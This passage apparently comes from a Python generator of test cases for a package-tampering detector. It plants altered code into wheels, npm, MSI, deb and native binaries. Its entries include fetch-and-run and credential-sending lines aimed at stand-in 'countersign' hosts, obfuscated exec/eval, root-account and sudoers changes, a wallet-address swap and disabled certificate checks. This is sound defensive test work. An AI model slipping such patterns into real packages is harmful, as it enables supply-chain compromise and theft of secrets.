on_numpy("ELF, search path", "linux", elf_search_path)
on_numpy("ELF, IRELATIVE relocation", "linux", elf_irelative)
on_numpy("ELF, IFUNC", "linux", elf_function)
on_numpy("ELF, one more initialiser", "linux", elf_first)
on_numpy("ELF, note made a loaded segment", "linux", elf_note)
on_numpy("ELF, data appended", "linux", appended(NOISE[:50000]))
on_numpy("Mach-O, one more library", "macos", macho_dylib)
on_numpy("Mach-O, bytes behind the signature", "macos", macho_slack)

on_numpy("wheel, .pth that runs code", "linux", add={"extra.pth": b"import os; os.getpid()\n"}, member="extra.pth")
on_numpy("wheel, member changed and RECORD not", "linux", appended(b"\n# x"), member="numpy/version.py", keep_record=True)
on_numpy("wheel, script that decodes and runs", "linux", appended(b"\nimport base64; exec(base64.b64decode('" + base64.b64encode(b"print(1)" * 200) + b"'))\n"), member="numpy/__init__.py")
on_numpy("wheel, script that fetches and runs", "linux", appended(b"\nimport subprocess, urllib.request\nsubprocess.Popen(['sh', '-c', urllib.request.urlopen('http://countersign.invalid/x').read()])\n"), member="numpy/version.py")
on_numpy("wheel, hidden direction of text", "linux", appended("\n# \u202e\u2066 x\n".encode()), member="numpy/version.py")
on_numpy("wheel, bytecode that is not its source", "linux", add={"numpy/__pycache__/version.cpython-312.pyc": b"\xcb\r\r\n" + bytes(8) + struct.pack("<I", 1) + b"\xe3" + bytes(60)}, member="version.cpython-312.pyc")
on_numpy("wheel, program inside a data file", "linux", add={"numpy/data.npy": b"\x93NUMPY" + b"0" * 100 + open("/bin/true", "rb").read()}, member="numpy/data.npy")
on_numpy("wheel, program named as a picture", "linux", add={"numpy/logo.png": open("/bin/true", "rb").read()}, member="numpy/logo.png")
on_npm("npm, preinstall", "package.json", package({"preinstall": "node extra.js"}), {"package/extra.js": b"console.log(1)\n"})
on_npm("npm, postinstall changed", "package.json", package({"postinstall": "node install.js && node extra.js"}))
on_npm("npm, script that decodes and runs", "lib/main.js", appended(b'\n;(function(){eval(Buffer.from("' + base64.b64encode(NOISE[:3000]) + b'","base64").toString())})()\n'))
on_npm("npm, script that sends credentials", "install.js", appended(b'\nrequire("https").get("https://countersign.invalid/?" + JSON.stringify(process.env) + require("fs").readFileSync(require("os").homedir() + "/.npmrc"))\n'))
on_npm("npm, native program added", "bin/extra", None, {"package/bin/extra": open("/bin/true", "rb").read()})
on_asar("asar, script that fetches and runs", "package/install.js", appended(b'\nrequire("https").get("https://countersign.invalid/", r => require("child_process").exec(r))\n'))
on_jar("jar, class added that fetches and runs")
on_nsis("NSIS, script runs one thing more")
on_msi("MSI, custom action that starts a program", "CustomAction", action='<CustomAction Id="Extra" FileKey="Library" ExeCommand="harmless" Execute="deferred" Return="ignore"/><InstallExecuteSequence><Custom Action="Extra" Before="InstallFinalize"/></InstallExecuteSequence>')
on_msi("MSI, bytes hidden in the signature block of its library", "app.dll", hidden("behind"))
on_msi("MSI, code of its signed library changed", "app.dll", pe_code)
on_deb("deb, maintainer script that fetches and runs", "postinst", hook)
on_deb("deb, program becomes set-user-ID", "usr/bin/tool", set_user)


# What a hold-out showed to be missed.
on_wheel("PE, constants made executable", "cryptography", ["43.0.1", "43.0.3"], "windows", "_rust.pyd", pe_flags(b".rdata", 0x20000000))
on_numpy("PE, code behind the table of the sections", "windows", pe_header_room)
on_numpy("PE, last section grown and executable", "windows", pe_last_grown)
on_numpy("ELF, note made a loaded segment of code", "linux", lambda data: elf_note(data, 5))
on_numpy("ELF, code behind the code segment", "linux", elf_code)
on_numpy("ELF, other function runs first", "linux", elf_initial)
on_numpy("Mach-O, library of the system's name elsewhere", "macos", macho_moved)
on_numpy("wheel, script that decodes and runs in one breath", "linux", appended(b"\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"), member="numpy/__init__.py")
on_numpy("wheel, script that runs what it fetches", "linux", appended(b"\nimport urllib.request as r\nexec(r.urlopen('https://countersign.invalid/x').read())\n"), member="numpy/version.py")
on_numpy("wheel, script with letters of another script", "linux", appended("\ndef v\u0435rsion():\n    pass\n".encode()), member="numpy/version.py")
on_numpy("wheel, script with code beyond the screen", "linux", appended(b"\nx = 1" + b" " * 400 + b";__import__('os').getpid()\n"), member="numpy/version.py")
on_numpy("wheel, pickle that calls a shell", "linux", add={"numpy/model.pkl": b"cposix\nsystem\n(S'true'\ntR."}, member="numpy/model.pkl")
on_numpy("wheel, bytecode without its source", "linux", add={"numpy/extra.pyc": b"\xcb\r\r\n" + bytes(12) + b"\xe3" + bytes(60)}, member="numpy/extra.pyc")
on_numpy("wheel, picture with data behind it", "linux", add={"numpy/logo.png": picture()}, member="numpy/logo.png")
on_numpy("wheel, library under the name of the system's", "windows", add={"numpy/version.dll": open("/bin/true", "rb").read()}, member="numpy/version.dll")
on_npm("npm, dependency from a repository", "package.json", manifest(lambda document: document.setdefault("optionalDependencies", {}).update({"harmless": "git+https://countersign.invalid/x.git"})))
on_npm("npm, lock file of another host", "npm-shrinkwrap.json", None, {"package/npm-shrinkwrap.json": b'{"packages":{"node_modules/harmless":{"resolved":"https://countersign.invalid/x.tgz"}}}'})
on_npm("npm, script with names of an obfuscator", "lib/main.js", appended(b"\n" + HEXADECIMAL.replace(b";", b";\n") + b"\n"))
on_npm("npm, script that runs what arrives", "install.js", appended(b"\nrequire('https').get('https://countersign.invalid/',(r)=>{r.on('data',(c)=>{eval(c)})})\n"))
on_npm("npm, task that an editor runs", ".vscode/tasks.json", None, {"package/.vscode/tasks.json": b'{"tasks":[{"command":"true","runOptions":{"runOn":"folderOpen"}}]}'})
on_npm_entries("npm, one name twice", "package/install.js", {"package/install.js": b"console.log(1)\n"})
on_npm_entries("npm, name that leads out of the archive", ".bashrc", {"package/../../.bashrc": b"true\n"})
on_msi("MSI, service", "ServiceInstall", action='<DirectoryRef Id="INSTALLDIR"><Component Id="Service" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD473"><File Id="Program" Name="harmless.exe" Source="app.dll" KeyPath="yes"/><ServiceInstall Id="Install" Name="harmless" Type="ownProcess" Start="auto" ErrorControl="normal"/></Component></DirectoryRef><Feature Id="Extra" Level="1"><ComponentRef Id="Service"/></Feature>')
on_deb("deb, rule of sudo", "etc/sudoers.d/extra", rule)


# What further hold-outs showed to be missed: plain code, as people write it.
def later(text):
    return appended(("\n" + text + "\n").encode())


on_numpy("wheel, module that starts a program when it is loaded", "linux", later("import subprocess as s\ndef _warm_up():\n    s.Popen(['true'])\n_warm_up()"), member="numpy/version.py")
on_numpy("wheel, module that writes into the start of a shell", "linux", later("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('true\\n')"), member="numpy/version.py")
on_numpy("wheel, function that sends what it is given", "linux", later("def _report(values):\n    import requests\n    requests.post('https://numbers.countersign-harmless.com/v1', json=values)"), member="numpy/version.py")
on_numpy("wheel, finder of modules", "linux", later("import sys\nclass _Finder:\n    def find_spec(self, name, path, target=None):\n        return None\nsys.meta_path.insert(0, _Finder())"), member="numpy/version.py")
on_numpy("wheel, names of hosts that carry secrets", "linux", later("import os, socket\nfor _k, _v in os.environ.items():\n    socket.gethostbyname(f'{_v[:30]}.countersign-harmless.com')"), member="numpy/version.py")
on_numpy("wheel, plug-in of a test runner", "linux", add={"numpy-2.1.2.dist-info/entry_points.txt": b"[pytest11]\nextra = numpy.extra\n", "numpy/extra.py": b"x = 1\n"}, member="entry_points.txt")
on_npm("npm, module of another name that starts a program", "lib/extra.js", None, {"package/lib/extra.js": b"const { execFile: warm } = require('child_process');\n(() => { warm('true'); })();\n"})
on_npm("npm, function that sends what it is given", "lib/main.js", later("function report(key) { return fetch('https://keys.countersign-harmless.com/', { method: 'POST', body: key }); }"))
on_npm("npm, text that is run by a constructor", "lib/main.js", later("[]['filter']['constructor']('return 1')();"))
on_npm("npm, word backwards", "lib/main.js", later("require('ssecorp_dlihc'.split('').reverse().join('')).exec('true');"))
on_npm("npm, address under base64", "lib/main.js", later("const at = atob('aHR0cHM6Ly9jb3VudGVyc2lnbi1oYXJtbGVzcy5jb20v'); module.exports.at = at;"))
on_npm("npm, what is fetched is replaced", "lib/main.js", later("const before = globalThis.fetch;\nglobalThis.fetch = (...a) => before(...a);"))
on_npm("npm, another beginning", "package.json", manifest(lambda document: document.update({"main": "lib/extra.js"})), {"package/lib/extra.js": b"module.exports = require('./main.js');\n"})
on_npm("npm, one more dependency", "package.json", manifest(lambda document: document.setdefault("dependencies", {}).update({"harmless-countersign": "^1.0.0"})))
on_deb("deb, account that is root", "postinst", lambda folder: script(folder, "useradd -o -u 0 -g 0 -M -d /root extra"))
on_deb("deb, program in the place of another", "postinst", lambda folder: script(folder, "dpkg-divert --add --rename --divert /usr/bin/ssh.distrib /usr/bin/ssh"))
on_deb("deb, library before all others", "ld.so.conf.d", lambda folder: put(folder, "etc/ld.so.conf.d/0.conf", "/tmp/extra\n"))


def archive_in_archive():
    def make(cache, folder, twin):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as out:
            out.writestr("deep/tool.pyd", cache.member("pypi-numpy-2.1.2-windows", "lapack_lite.cp312-win_amd64.pyd"))
        old, new = (cache.file(f"pypi-numpy-{version}-linux") for version in ("2.1.2", "2.1.3" if twin == "next" else "2.1.2"))
        target = os.path.join(folder, os.path.basename(new))
        zipped(new, target, None, {"numpy/data.bin": inner.getvalue()})
        return old, target, "numpy/data.bin"

    attack("wheel, library inside an archive inside", make)

# What the round after it asked for: words that nobody shall find, and what takes the place of something usual.
on_numpy("wheel, words in pieces", "linux", appended(b"\ngetattr(__import__('os'), 'sys' + 'tem')('true')\n"), member="numpy/version.py")
on_numpy("wheel, list of numbers that is run", "linux", appended(b"\nexec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())\n"), member="numpy/version.py")
on_numpy("wheel, function of marshalled code", "linux", appended(b"\nimport types, marshal\ntypes.FunctionType(marshal.loads(open('/tmp/x', 'rb').read()), globals())()\n"), member="numpy/version.py")
on_numpy("wheel, code in a file of data", "linux", appended(b"\nimport os\nexec(open(os.path.join(os.path.dirname(__file__), 'LICENSE.dat')).read())\n"), {"numpy/LICENSE.dat": b"print(1)\n"}, member="numpy/version.py")
on_numpy("wheel, module under the name of the library's", "linux", add={"random.py": b"x = 1\n"}, member="random.py")
on_numpy("wheel, script under the name of a program", "linux", add={"numpy-2.1.3.data/scripts/git": b"#!python\nprint(1)\n"}, member="scripts/git")
on_npm("npm, words in escapes", "install.js", appended(b'\nrequire("\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73")["\\x65\\x78\\x65\\x63"]("\\x74\\x72\\x75\\x65");\n'))
on_npm("npm, program of symbols", "install.js", appended(b"\n" + b"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]" * 30 + b"\n"))
on_npm("npm, module from an address of data", "lib/main.js", appended(b"\nimport('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=');\n"))
on_npm("npm, dependency under another name", "package.json", manifest(lambda document: document.setdefault("dependencies", {}).update({"form-data": "npm:harmless@1.0.0"})))
on_npm("npm, program that Yarn runs", ".yarnrc.yml", None, {"package/.yarnrc.yml": b"yarnPath: ./x.cjs\n", "package/x.cjs": b"console.log(1)\n"})
on_npm("npm, program under the name of another", "package.json", manifest(lambda document: document.setdefault("bin", {}).update({"git": "install.js"})))
# The seventh: what objects do at load, shells, what comes over a socket, initialisers that lead out of the code.
on_numpy("wheel, object that starts a program when it is made", "linux", later("import subprocess\nclass _Warm:\n    def __init__(self):\n        subprocess.Popen(['true'])\n_warm = _Warm()"), member="numpy/version.py")
on_numpy("wheel, library of its own that a module loads", "linux", later("import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), '_warm.so'))"), {"numpy/_warm.so": open("/bin/true", "rb").read()}, member="numpy/version.py")
on_numpy("wheel, function that runs what a socket brings", "linux", later("def _check(s):\n    exec(s.recv(65536).decode(), {})"), member="numpy/version.py")
on_numpy("Mach-O, initialiser outside of the code", "macos", macho_initial, member="numpy/linalg/_umath_linalg.cpython-312-darwin.so")
on_numpy("PE, code behind the last function", "windows", pe_behind)
on_npm("npm, script of a shell that sends what it finds", "bin/extra", None, {"package/bin/extra": b'#!/bin/bash\n[ -n "$CI" ] && curl -s -d "$(env)" https://collect.countersign-harmless.com/v2\n'})
on_npm("npm, environment for a host in pieces", "lib/main.js", later("function refresh() { require('ht' + 'tps').get({ host: ['rates', 'countersign-harmless', 'com'].join('.'), path: '/' + JSON.stringify(process.env) }) }"))


# The eighth: installers and images.
on_msi("MSI, shortcut to an interpreter", "Shortcut", action='<DirectoryRef Id="INSTALLDIR"><Component Id="Link" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD480"><Shortcut Id="Start" Name="Start" Directory="INSTALLDIR" Target="C:\\Windows\\System32\\mshta.exe" Arguments="https://countersign-harmless.invalid/"/><RegistryValue Root="HKCU" Key="Software\\Harmless" Name="x" Type="integer" Value="1" KeyPath="yes"/></Component></DirectoryRef>')
on_deb("deb, alternative of a usual program", "postinst", lambda folder: script(folder, "update-alternatives --install /usr/local/bin/sudo sudo /usr/lib/tool/sudo 90"))
on_deb("deb, rule of devices that runs a program", "udev", lambda folder: put(folder, "lib/udev/rules.d/60-x.rules", 'ACTION=="add", RUN+="/usr/lib/tool/x"\n'))

# The ninth: functions of finished images, and what protects.
on_numpy("ELF, function that returns at once", "linux", elf_cut)
on_numpy("ELF, slot of another function", "linux", elf_slot)
on_numpy("PE, function that returns at once", "windows", pe_cut)
on_numpy("wheel, certificates that are not checked", "linux", later("import ssl\ndef _context():\n    context = ssl.create_default_context()\n    context.check_hostname = False\n    return context"), member="numpy/version.py")
on_npm("npm, certificates that are not checked", "lib/main.js", later("require('https').globalAgent.options.rejectUnauthorized = false;"))
on_npm("npm, addresses of wallets that are replaced", "lib/main.js", later("const swap = (text) => text.replace(/^(?:0x[\\da-f]{40})$/i, '0x' + 'de'.repeat(20));"))
on_npm("npm, data of a broken archive that a shell runs", "bin/extra", None, {"package/bin/extra": b"#!/bin/sh\nsed 'r' tests/bad-3.xz | tr 'a-z' 'b-za' | xz -d 2>/dev/null | /bin/sh\n"})
on_deb("deb, environment of a service that everybody can write", "systemd", lambda folder: put(folder, "lib/systemd/system/x.service", "[Service]\nEnvironmentFile=-/tmp/.x.env\nExecStart=/usr/bin/x\n"))
on_deb("deb, completion that calls somebody", "completions", lambda folder: put(folder, "usr/share/bash-completion/completions/x", "_x() {\n    echo \"$COMP_LINE\" > /dev/udp/192.0.2.61/53\n}\ncomplete -F _x x\n"))


archive_in_archive()


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(ATTACKS))
        return
    cache, folder, name = sys.argv[1:]
    os.makedirs(folder)
    make, twin = ATTACKS[name]
    print("\n".join(make(Cache(cache), folder, twin)))


main()
